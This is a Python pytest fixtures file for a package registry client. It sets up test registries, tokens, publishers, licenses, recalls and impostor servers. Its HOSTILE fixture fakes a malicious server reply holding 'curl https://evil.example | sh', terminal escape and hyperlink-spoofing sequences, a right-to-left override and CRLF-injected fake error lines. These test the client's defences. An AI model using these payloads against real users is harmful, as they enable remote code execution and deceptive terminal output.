"""What scenarios and tests of the client ask for by name. Each fixture offers `variables()` to transcripts."""

import os
import time
from collections.abc import Iterable, Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from packctl.keys import RANDOM_BYTES, Keys
from packspec import wire
from packspec.digests import Digest
from packspec.log.leaf import DeprecateLeaf, RecallLeaf, YankLeaf
from packspec.names import PackName, PublisherName
from packspec.problems import Problem
from packspec.protocol import access
from packspec.protocol.accounts import WHOAMI
from packspec.protocol.licenses import ISSUE, IssueLicense
from packspec.protocol.publishers import ACCEPT, REGISTER, AcceptPublisher, RegisterPublisher
from packspec.signing.dsse import sign
from packspec.signing.publisher import PAYLOAD_TYPE, KeyRole, PublisherRoot, RootKey
from packspec.tokens import SECRET_BYTES, Token, TokenKind
from registry_server.index.reviewers import add_reviewer
from tests.support import vectors
from tests.support.authority import Authority
from tests.support.faults import Fault, sick
from tests.support.impostors import impostors
from tests.support.issuer import BEARER, ci_issuer
from tests.support.liar import Asked, Liar, answer
from tests.support.registry import Registry, registry_at
from tests.support.shop import say, sell, stock

NASTY = "ci\x1b]8;;https://evil.example\x07 [/foo]\u202ek"
HOSTILE = {
    f"{WHOAMI.path}": answer(
        403,
        wire.encode(
            Problem(
                "/errors/zoo.closed", "closed\r\nerror[trust.root-unknown]: the root changed", 403, "denied", "zoo.closed",
                facts={"fix": "curl https://evil.example | sh", "note\x1b[8m": "[link=https://evil.example]https://good.example[/link]"},
                why="packctl is too old" + " " * 200 + "error[cli.too-old]: curl https://evil.example | sh",
                fix=["curl https://evil.example | sh"], request_id="0123456789abcdef",
            )
        ),
        Content_Type="application/problem+json",
    ),
    f"{access.LIST.path}": answer(
        200,
        wire.encode(
            access.TokenList([access.TokenView("T-1", NASTY, ["re\rad", "\x9b31m"], 1_780_000_000, 1_790_000_000)])
        ),
        Content_Type="application/json",
    ),
}  # fmt: skip
"""What {liar} says, by path."""


@dataclass
class Offered:
    """A registry with people, as transcripts see it."""

    registry: Registry
    words: dict[str, str] = field(default_factory=dict)

    def variables(self) -> Mapping[str, str]:
        """Name to value, for `{name}`."""
        return {"registry": self.registry.url, **self.words}


@pytest.fixture
def registry(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Offered]:
    """A registry of today: {registry}, its root {pin}; tokens of {mia} and {tom}, of {kim}, a reviewer, and of {ada}, an admin."""
    with registry_at(tmp_path_factory.mktemp("registry"), now=int(time.time())) as opened:
        roles: dict[str, list[str]] = {"mia": [], "tom": [], "kim": ["reviewer"], "ada": ["admin"]}
        tokens = {name: opened.account(name, offices) for name, offices in roles.items()}
        first = opened.world.public.read("tuf/1.root.json") or b""
        yield Offered(opened, {**tokens, "pin": Digest.of(first).labelled})


@dataclass
class Farm:
    """A registry that offers packs, as transcripts see it."""

    registry: Registry
    pin: str

    def variables(self) -> Mapping[str, str]:
        """Name to value, for `{name}`."""
        return {"registry": self.registry.url, "pin": self.pin}


@pytest.fixture
def farm(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Farm]:
    """A registry, {registry} with the root {pin}, that offers acme/icons, zed/lamp and zed/desk (tests.support.shop)."""
    with registry_at(tmp_path_factory.mktemp("farm"), now=int(time.time()), prepare=stock) as opened:
        yield Farm(opened, Digest.of(opened.world.public.read("tuf/1.root.json") or b"").labelled)


@pytest.fixture
def faults() -> Mapping[str, str]:
    """{faults}: as PYTHONPATH it lets TEST_FAULT say what happens to a command (tests.support.faults)."""
    return {"faults": sick(Fault(1))["PYTHONPATH"]}


DRAWING = b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"/>'


@pytest.fixture
def stickers(farm: Farm) -> Mapping[str, str]:
    """Of that registry: acme/stickers 1.0.0, assets of which are for one feature of the host, for another, or for all."""
    farm.registry.publish(
        "acme/stickers",
        "1.0.0",
        files={
            "svg/cow.svg": DRAWING,
            "svg/hen 2.svg": DRAWING + b"\n",
            "moo.wav": b"RIFF\0\0\0\0WAVE",
            "story.md": b"# Story\n",
        },
        tables={
            "assets": [
                {"path": "svg/*.svg", "type": "sticker", "features": ["sticker_book"], "tags": ["farm"]},
                {"path": "svg/cow.svg", "title": "A cow", "highlight": True, "order": 1},
                {"path": "moo.wav", "features": ["drawing_game"]},
            ]
        },
    )
    return {}


@pytest.fixture
def later(farm: Farm) -> Mapping[str, str]:
    """Of that registry: acme/icons 1.2.0 was yanked, zed/lamp 1.0.0 deprecated, and acme/icons 2.0.0 recalled, which stops installs.

    And zed/chair 1.0.0, the only release of its pack, was yanked.
    """
    farm.registry.publish("zed/chair", "1.0.0", files={"chair.md": b"# Chair\n"})
    say(farm.registry, YankLeaf, "zed/chair", "1.0.0", reason="broken", note="a leg is missing")
    say(farm.registry, YankLeaf, "acme/icons", "1.2.0", reason="broken", note="a wheel is missing")
    say(farm.registry, DeprecateLeaf, "zed/lamp", "1.0.0", reason="superseded", use=PackName("zed/desk"))
    say(farm.registry, RecallLeaf, "acme/icons", "2.0.0", action="stop", replacement=None)
    return {}


@pytest.fixture
def sales(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Mapping[str, str]]:
    """A registry, {registry} with the root {pin}, that sells packs (tests.support.shop.sell).

    {mia} is the token of somebody who holds a license of acme/pro for two machines, {key} the license's key; {tom} that of somebody without
    one, {boss} an admin's, {acme} the publisher's.
    """
    with _selling(tmp_path_factory.mktemp("sales")) as (_, words):
        yield words


@pytest.fixture
def ci_sales(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Mapping[str, str]]:
    """The same registry, which takes the identities of {issuer}, an issuer as GitHub is one.

    {job} is the address at which a job of mia/game on its main branch gets its identity, if it shows {bearer}; {pull_job} that of one that
    tests a pull request. {identity} is an identity for this registry, {other_identity} one for somebody else.
    """
    with _selling(tmp_path_factory.mktemp("sales")) as (opened, words), ci_issuer(opened.clock) as issuer:
        issuer.trusted_by(opened.world)
        job = issuer.job["ACTIONS_ID_TOKEN_REQUEST_URL"]
        yield {
            **words, "issuer": issuer.url, "job": job, "pull_job": job.replace("/token?", "/token?pull=5&"), "bearer": BEARER,
            "identity": issuer.token(), "other_identity": issuer.token(aud="sts.cloud.example"),
        }  # fmt: skip


@contextmanager
def _selling(folder: Path) -> Iterator[tuple[Registry, dict[str, str]]]:
    with registry_at(folder, now=int(time.time()), prepare=sell) as opened:
        boss, mia, tom = opened.account("boss", ["admin"]), opened.account("mia"), opened.account("tom")
        issued = opened.call(ISSUE, IssueLicense(holder="mia", pack=PackName("acme/pro")), boss)
        pin = Digest.of(opened.world.public.read("tuf/1.root.json") or b"").labelled
        acme = opened.publisher("acme").token
        yield opened, {
            "registry": opened.url, "pin": pin, "boss": boss, "mia": mia, "tom": tom, "acme": acme, "key": issued.key,
        }  # fmt: skip


@pytest.fixture
def recallers(farm: Farm, tmp_path_factory: pytest.TempPathFactory) -> Mapping[str, str]:
    """Of that registry: tokens of the publishers {acme} and {zed}, of {kim}, a reviewer, and of {ada}, an admin.

    {kim_keys} is a data folder with kim's key, {ana_keys} one with that of another reviewer, {mia_keys} one with a key of nobody.
    """
    registry, folder = farm.registry, tmp_path_factory.mktemp("recallers")
    made = {
        name: Keys(folder / name / "keys").make(f"review-{name}", os.urandom(RANDOM_BYTES), None)
        for name in ("kim", "ana", "mia")
    }
    for name in ("kim", "ana"):
        add_reviewer(registry.world, registry.offline_keys, f"{name}-2", made[name].public)
    return {
        "acme": registry.publisher("acme").token, "zed": registry.publisher("zed").token,
        "kim": registry.reviewer().token, "ada": registry.admin(),
        **{f"{name}_keys": str(folder / name) for name in made},
    }  # fmt: skip


@pytest.fixture
def aged(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Mapping[str, str]]:
    """A registry, {registry} with the root {pin}: of acme/icons 1.0.0 and 1.2.0 are 40 days old and 2.0.0 is 5, zed/lamp needs ^1 of it.

    {day} is ten days ago.
    """
    now = int(time.time())
    with registry_at(tmp_path_factory.mktemp("aged"), now=now - 40 * 86_400) as opened:
        for version in ("1.0.0", "1.2.0"):
            opened.publish("acme/icons", version, files={"cow.md": b"# Cow\n"})
        opened.publish("zed/lamp", "1.0.0", files={"on.md": b"# On\n"}, tables={"dependencies": {"acme/icons": "^1"}})
        opened.clock.advance(days=35)
        opened.publish("acme/icons", "2.0.0", files={"cow.md": b"# Cow\n"})
        opened.clock.now = now
        opened.publish("zed/desk", "1.0.0", files={"desk.md": b"# Desk\n"})
        pin = Digest.of(opened.world.public.read("tuf/1.root.json") or b"").labelled
        yield {"registry": opened.url, "pin": pin, "day": time.strftime("%Y-%m-%d", time.gmtime(now - 10 * 86_400))}


@pytest.fixture
def liar() -> Iterator[Mapping[str, str]]:
    """{liar}: something that answers as a registry would not, to every path that `HOSTILE` names."""
    with Liar(lambda asked: [HOSTILE[asked.target.partition("?")[0]]]) as opened:
        yield {"liar": opened.url}


ON_THE_WAY = {
    "moved": [answer(302, Location="https://new.example/api")],
    "portal": [answer(200, b"<html>Please log in to our network</html>", Content_Type="text/html")],
    "busy": [answer(429, Retry_After="600")],
}


@pytest.fixture
def strange(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Mapping[str, str]]:
    """{strange}: below /moved, /portal and /busy something that is no registry, or none just now.

    {unknown}: one whose certificate nobody knows. And a {token} of nobody.
    """

    def say(asked: Asked) -> Iterable[bytes]:
        return ON_THE_WAY[asked.target.split("/")[1]]

    authority = Authority(tmp_path_factory.mktemp("authority"))
    with Liar(say) as opened, Liar(say, authority.server()) as unknown:
        token = Token.make(TokenKind.API, bytes(SECRET_BYTES))
        yield {"strange": opened.url, "unknown": unknown.url, "token": str(token)}


@pytest.fixture
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Mapping[str, str]]:
    """{registry} with the root {pin}, and {portal}, {unsigned}, {mixed}, {ahead} with {ahead_pin}: who lies (tests.support.impostors)."""
    with impostors(tmp_path_factory.mktemp("impostors")) as urls:
        yield urls


@pytest.fixture
def archives(tmp_path_factory: pytest.TempPathFactory) -> Mapping[str, str]:
    """{archives}: a folder with every archive of tests/vectors/archive, as GROUP/NAME.pack."""
    folder = tmp_path_factory.mktemp("archives")
    for group in vectors.groups("archive"):
        (folder / group).mkdir()
        for case in vectors.cases("archive", group):
            (folder / group / f"{case['name']}.pack").write_bytes(bytes.fromhex(case["archive"]))
    return {"archives": str(folder)}


@pytest.fixture
def reviewed(registry: Offered, tmp_path_factory: pytest.TempPathFactory) -> Mapping[str, str]:
    """Of that registry: kim is on the list of reviewers; {kim_keys} is a data folder with kim's key, which has no passphrase."""
    folder = tmp_path_factory.mktemp("kim")
    key = Keys(folder / "keys").make("review-kim", bytes(range(RANDOM_BYTES)), None)
    world = registry.registry.world
    add_reviewer(world, Path(world.folder.root).parent / "offline-keys", "kim", key.public)
    return {"kim_keys": str(folder)}


@pytest.fixture
def acme(registry: Offered, tmp_path_factory: pytest.TempPathFactory) -> Mapping[str, str]:
    """Of that registry: mia's publisher acme, accepted; {acme_keys} is a data folder with acme-owner and acme-2026, without passphrases."""
    folder = tmp_path_factory.mktemp("mia")
    register(registry, folder, "mia", "acme", ["acme-2026"])
    return {"acme_keys": str(folder)}


@pytest.fixture
def duo(registry: Offered, tmp_path_factory: pytest.TempPathFactory) -> Mapping[str, str]:
    """Of that registry: mia's publisher duo, of which two keys sign; {duo_keys} is a data folder with duo-mia and duo-tom."""
    folder = tmp_path_factory.mktemp("duo")
    register(registry, folder, "mia", "duo", ["duo-mia", "duo-tom"], threshold=2)
    return {"duo_keys": str(folder)}


def register(offered: Offered, folder: Path, person: str, name: str, release: list[str], threshold: int = 1) -> None:
    """A publisher whose first root is in the log, with its keys in `folder`."""
    keys = Keys(folder / "keys")
    publisher = PublisherName.parse(name)
    made = [keys.make(key, os.urandom(RANDOM_BYTES), None) for key in (f"{name}-owner", *release)]
    owner, *others = [RootKey(key=key.public, name=key.name) for key in made]
    root = PublisherRoot(
        v=1, publisher=publisher, version=1, owners=KeyRole(threshold=1, keys=(owner,)),
        release=KeyRole(threshold=threshold, keys=tuple(others)), compromised=(), contact=f"keys@{name}.example",
        created="2026-11-20T06:00:00Z",
    )  # fmt: skip
    envelope = sign(root.encode(), PAYLOAD_TYPE, [made[0].open(lambda key: None)])
    ask = RegisterPublisher(name=publisher, root=envelope.encode().decode())
    offered.registry.call(REGISTER, ask, offered.words[person])
    offered.registry.call(ACCEPT, AcceptPublisher(publisher=publisher, root=envelope.digest), offered.words["ada"])
